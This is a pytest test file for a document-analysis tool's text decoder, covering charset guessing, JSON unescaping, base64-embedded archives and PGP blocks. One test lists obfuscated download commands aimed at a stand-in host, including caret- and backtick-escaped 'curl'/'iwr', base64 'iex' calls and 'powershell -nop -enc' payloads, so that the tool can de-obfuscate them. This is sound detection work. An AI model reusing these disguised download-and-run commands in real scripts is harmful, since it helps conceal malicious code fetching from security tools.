"""Plain text, JSON and scripts: charsets, escapes, pieces of bounded size."""

import base64
import json
import random
import zlib

import pytest

from tqimap.documents import text
from tqimap.documents.decoded_text import BLOCK_CHARACTERS, decoded
from tqimap.documents.pieces import Child, Context, Link, Text, Unread
from tqimap.documents.walk import walk
from tqimap.indicators import find


def shown(data: bytes, spot: str = "", charset: str = "") -> str:
    return "".join(
        each.text for each in text.read(data, Context(charset=charset)) if isinstance(each, Text) and each.spot == spot
    )


RUSSIAN = "Привет, это обычный текст на русском языке, достаточно длинный для догадки о кодировке. " * 5


@pytest.mark.parametrize(
    ("data", "declared", "text"),
    [
        ("Größe".encode(), "", "Größe"),
        ("Größe".encode(), "us-ascii", "Größe"),
        ("Größe".encode("utf-8-sig"), "koi8-r", "Größe"),
        ("Größe".encode("utf-16"), "", "Größe"),
        ("long enough".encode("utf-16-le"), "", "long enough"),
        ("long enough".encode("utf-16-be"), "utf-8", "long enough"),
        ("Größe".encode("utf-32"), "", "Größe"),
        ("Größe".encode("cp1252"), "", "Größe"),
        ("a\r\nb\rc\n".encode("utf-16"), "", "a\nb\rc\n"),
        (b"Mutex:\r\n\r\nq7\r\n", "utf-8", "Mutex:\n\nq7\n"),
        (b"by Excel,\rfor Macs\r", "", "by Excel,\nfor Macs\n"),
        (RUSSIAN.encode("koi8-r"), "koi8-r", RUSSIAN),
        (RUSSIAN.encode("cp1251"), "", RUSSIAN),
        (RUSSIAN.encode("koi8-r"), "x-unknown", RUSSIAN),
        (b"", "", ""),
        (b"\0", "", "\0"),
    ],
)
def test_text_is_decoded_whatever_its_label_says(data: bytes, declared: str, text: str) -> None:
    assert decoded(data, declared) == text


def test_strings_of_json_are_read_whole() -> None:
    data = rb'{"url": "https:\/\/x.example\/a", "b": "\u0068ttp://y.example/\ud83d\ude00", "c": "plain", "d": "\ud800"}'
    assert shown(data).split() == data.replace(b"Ab: x", b"").decode().split()
    assert shown(data, "strings, decoded").split("\n") == ["https://x.example/a", "http://y.example/😀", "\ufffd"]


@pytest.mark.parametrize(
    "data",
    [
        b'{"broken": "https:\\/\\/x.example\\/',
        b'{"a": 1}{"u": "https:\\/\\/x.example\\/"',
        b"'https:\\/\\/x.example\\/'",
    ],
)
def test_json_need_not_be_whole(data: bytes) -> None:
    assert "x.example" in shown(data)


ENCODED_COMMAND = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "code",
    [
        r"'\150\164\164\160\163\72\57\57x.example\57a'",
        "'htt'.concat('ps:').concat ( '//x.example/a')",
        "['htt', \"ps://x\", `.example/a`].join('')",
        "'a/elpmaxe.x//:sptth'.split('').reverse().join('')",
        f"[{','.join(map(hex, b'https://x.example/a'))}]",
        f"'{b'https://x.example/a'.hex()}'",
        f"'{base64.b64encode(base64.b64encode(b'https://x.example/a')).decode()}'",
        f"'{base64.urlsafe_b64encode(b'?>~ https://x.example/a').decode().rstrip('=')}'",
        f"'{base64.encodebytes(b'https://x.example/a' * 9).decode()}'".replace("\n", "\\n"),
        f"atob('{base64.b64encode(b'https://x.example/a').decode()[::-1]}'.split('').reverse().join(''))",
        "a = ['htt', \"ps://x\", `.example/a`]; b = 1; open(a.join(''))",
        '"https://" & "x.example" & "/a"',
        'Chr(104)&Chr(116) & chrw( 116 ) &"ps://x.example" & _\n "/a"',
        "'htQQtps://x.QQexample/a'.replace(/QQ/g, '')",
        "'htQQtps://x.QQexample/a'.split('QQ').join('')",
        "('{1}{0}' -f 'x.example/a', 'https://')",
        '"{0}{2}{1}"-f"ht",\'x.example/a\',"tps://"',
        "[char[]](104,116,116,112,115,58,47,47,120,46,101,120,97,109,112,108,101,47,97) -join ''",
        "[char]104 + [Char](116)+'tps://' + 'x.example/a'",
        "$u = 'https:' . '//x.exam'.'ple/a';",
        "'ht#tps://x.#example/a' -replace '#',''",
        "cu^rl htt^ps://x.exa^mple/a",
        "i`wr htt`ps://x.exa`mple/a",
        "x = \"open('https:' + '//x.example/a')\"",
        f"x = \"iex('{base64.b64encode(b'https://x.example/a').decode()}')\"",
        f"'{base64.b64encode(zlib.compress(b'iwr https://x.example/a')).decode()}'",
        f"'{base64.b64encode(zlib.compress(b'iwr https://x.example/a')[2:-4]).decode()}'",
        f"powershell -nop -enc {ENCODED_COMMAND}",
        f"pwsh /EncodedCommand '{ENCODED_COMMAND}'",
        f"powershell -e {ENCODED_COMMAND[:24]}\r\n{ENCODED_COMMAND[24:]}\r\n\r\nafterwards",
    ],
)
def test_simple_disguises_are_undone(code: str) -> None:
    assert "https://x.example/a" not in code
    assert "https://x.example/a" in shown(code.encode(), "strings, decoded")


@pytest.mark.parametrize(
    "code",
    [
        "['a.example', 'b.example'].join(', ')",
        "'0123456789abcdef0123456789abcdef'",
        "dir /e 0123456789abcdef0123",
        "'a//:b'",
        "a = b && 'x.ex' && 'ample'",
        "x^2 + y^2",
        "'a.example'. 'b.example'",
        "grep 'a.example' -f 'b.example'",
    ],
)
def test_what_is_no_disguise_gives_nothing_more(code: str) -> None:
    assert shown(code.encode(), "strings, decoded") == ""


ARCHIVE = b"PK\x03\x04" + random.Random(5).randbytes(200)
LINES = base64.encodebytes(ARCHIVE).decode()


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("a.txt", LINES),
        ("a.txt", LINES.replace("\n", "\r\n").replace("+", "-").replace("/", "_")),
        ("a.b64", f"-----BEGIN CERTIFICATE-----\n{LINES}-----END CERTIFICATE-----\n"),
        ("a.js", f"x = new Uint8Array([{', '.join(map(str, ARCHIVE))}])"),
        ("a.js", f"x = '{ARCHIVE.hex()}'"),
        ("a.html", f"<p>Please wait</p><div style='display:none' id=x>{LINES}</div>"),
        ("a.html", f"<input type=hidden value='{base64.b64encode(ARCHIVE).decode()}'>"),
        ("a.html", f"<a data-x='{base64.b64encode(ARCHIVE).decode()}'>Download</a>"),
    ],
)
def test_a_document_in_a_text_is_cut_out(name: str, source: str) -> None:
    assert ARCHIVE in [step.piece.data for step in walk(source.encode(), name) if isinstance(step.piece, Child)]


def test_values_of_the_registry_are_read() -> None:
    value = ",".join(f"{byte:02x}" for byte in "https://x.example/a\0".encode("utf-16-le"))
    data = f'[HKEY_CURRENT_USER\\a]\n"b"=hex(2):{value[:60]}\\\n  {value[60:]}\n'
    assert shown(data.encode(), "lines, decoded") == "https://x.example/a"


def test_lines_of_base64_are_read() -> None:
    data = b"Look:\n" + base64.encodebytes(b"some words about https://x.example/a and all that")
    assert shown(data, "lines, decoded") == "some words about https://x.example/a and all that"


def test_a_page_in_a_script_is_read_as_one() -> None:
    data = rb"document.write('<a href=\'https:\/\/x.example\/\'>');"
    assert [each.url for each in text.read(data, Context()) if isinstance(each, Link)] == ["https://x.example/"]


def test_hashes_and_tokens_are_no_files() -> None:
    digest = random.Random(3).randbytes(32).hex()
    data = f'["{digest}", "{digest.upper()}", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="]'.encode()
    found = list(text.read(data, Context()))
    assert not [each for each in found if isinstance(each, Child)]
    assert shown(data, "strings, decoded") == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"


def test_long_text_comes_in_pieces_that_end_with_lines() -> None:
    lines = [f"line {number} with https://x.example/{number}" for number in range(60_000)]
    found = [each.text for each in text.read("\n".join(lines).encode(), Context()) if isinstance(each, Text)]
    assert len(found) > 1 and all(len(each) <= BLOCK_CHARACTERS for each in found)
    assert "".join(found).split("\n") == lines
    assert all(each.endswith("\n") for each in found[:-1])


def test_half_a_character_in_a_string_hides_no_other() -> None:
    found = list(text.read(b'unescape("%ud83d%3Ca href=https://half.example%3E")', Context()))
    assert Link("https://half.example", "strings, decoded, a href") in found


def test_the_end_of_a_line_in_json_is_no_part_of_a_path() -> None:
    paths = ["C:\\Temp\\new.exe", "C:\\Temp\\b.dll", "HKCU\\Software\\Run\\c"]
    data = json.dumps({"a": "\n".join(paths) + "\n", "b": "\r\n".join(paths), "c": "\t".join(paths)})
    told = shown(data.encode())
    assert {each.value for each in find(told).found} == set(paths)
    assert told.index('"b"') == data.index('"b"')


def test_a_path_that_is_no_json_is_as_it_is() -> None:
    for line in ('{"a": "C:\\Temp\\new.exe"}', "\\\\server\\new\\report.exe"):
        assert shown(line.encode()) == line


def test_one_endless_line_is_cut() -> None:
    found = [each.text for each in text.read(b"x" * (BLOCK_CHARACTERS * 2 + 1), Context()) if isinstance(each, Text)]
    assert [len(each) for each in found] == [BLOCK_CHARACTERS, BLOCK_CHARACTERS, 1]


@pytest.mark.parametrize("quote", ["", "> "])
def test_the_program_that_signed_a_text_says_nothing(quote: str) -> None:
    lines = [
        "-----BEGIN PGP SIGNATURE-----",
        "Version: GnuPG 2.0.14.1",
        "Comment: https://pgp.example/",
        "",
        "iQEz",
        "x",
    ]
    signed = "".join(f"{quote}{line}\r\n" for line in lines)
    told = shown(signed.encode())
    assert "GnuPG" not in told and "pgp.example" not in told and told.count("\n") == signed.count("\n")
    assert f"{quote}iQEz" in told


def test_what_is_encrypted_in_a_text_is_said() -> None:
    message = b"See:\n-----BEGIN PGP MESSAGE-----\n\nhQEMA4\n=abcd\n-----END PGP MESSAGE-----\n"
    assert Unread("encrypted with PGP") in list(text.read(message, Context()))


@pytest.mark.parametrize(
    "data",
    [
        b"-----BEGIN PGP MESSAGE-----\nAb: x\n" * 100_000,
        b"> " * 500_000 + b"-----BEGIN PGP ",
        b'"\\' * 500_000,
        b"`" + b"\\`" * 500_000,
        b"['" * 500_000,
        b"[1," * 500_000,
        b"%41" * 300_000,
        b"].join('')" * 200_000,
        b" -e" * 500_000,
        b"'//:ptth" * 200_000,
    ],
)
def test_hostile_text_is_gone_through(data: bytes) -> None:
    assert shown(data).split() == data.replace(b"Ab: x", b"").decode().split()
